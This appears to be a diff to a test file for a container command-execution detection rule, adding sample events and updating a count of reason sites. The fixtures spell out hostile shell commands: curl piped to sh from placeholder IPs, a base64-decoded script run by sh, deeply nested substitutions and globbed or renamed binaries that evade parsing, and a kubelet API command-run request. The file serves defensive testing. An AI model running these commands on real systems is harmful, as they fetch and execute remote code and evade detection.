@@ -51,6 +51,29 @@ const TEMPLATES: [cls: string, event: ExecEvent][] = [
   ["ran-in-container", run("/usr/bin/curl", "http://203.0.113.7/")],
   ["ran-in-exec-session", session("curl", "http://203.0.113.7/")],
   ["also-runs", session("sh", "-c", "curl http://203.0.113.7/; wget http://203.0.113.8/")],
+  [
+    "cut-short",
+    session("sh", "-c", `${"echo $(".repeat(17)}curl -s http://203.0.113.5/x.sh | sh${")".repeat(17)}`),
+  ],
+  [
+    "flat-scan",
+    session("sh", "-c", `${"echo $(".repeat(17)}curl -s http://203.0.113.5/x.sh | sh${")".repeat(17)}`),
+  ],
+  ["benign-unread", session("sh", "-c", `${"true $(".repeat(17)}x${")".repeat(17)}; curl --version`)],
+  ["glob-name", session("sh", "-c", "/???/???/c?rl http://203.0.113.7/")],
+  ["encoded-script", session("sh", "-c", "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveA== | base64 -d | sh")],
+  [
+    "kubelet-api",
+    run("/usr/bin/curl", "-sk", "-X", "POST", "https://10.0.1.5:10250/run/kube-system/p/c", "-d", "cmd=id"),
+  ],
+  ["renamed", run("/tmp/firewire", "-fsSL", "http://203.0.113.5/x")],
+  [
+    "expected-location",
+    withAncestors(run("/usr/bin/curl", "-fsS", "https://api.example.com/ping"), [
+      { name: "run", path: "/run/service/pinger/run" },
+      { name: "s6-supervise", path: "/package/admin/s6/command/s6-supervise" },
+    ]),
+  ],
 ];
 
 // The rule writes these only when its own analysis fails (a bug, or a budget): the templates, filled in.
@@ -87,10 +110,11 @@ describe("reason classes", () => {
   it("every class of the table has an example above, and every reason site of rule.ts is counted", () => {
     const covered = new Set([...TEMPLATES.map(([cls]) => cls), "unanalysable"]);
     expect(REASON_CLASSES.map(([cls]) => cls).filter((cls) => !covered.has(cls))).toEqual([]);
-    // 12 add(...) calls + also-runs + 3 failure reasons + the finding's own list. A new reason template
+    // 14 add(...) calls + also-runs + 3 failure reasons + the finding's own list + the channel merge + the
+    // cut-short finding's list. A new reason template
     // in rule.ts changes this count: give it a class in REASON_CLASSES and an example in TEMPLATES.
     const source = readFileSync(join(ROOT, "src/detection/rule.ts"), "utf8");
-    expect(reasonSites(source), "reason sites in src/detection/rule.ts").toBe(16);
+    expect(reasonSites(source), "reason sites in src/detection/rule.ts").toBe(19);
   });
 
   it("an unknown reason is a class of its own, stable, and never merges with another", () => {
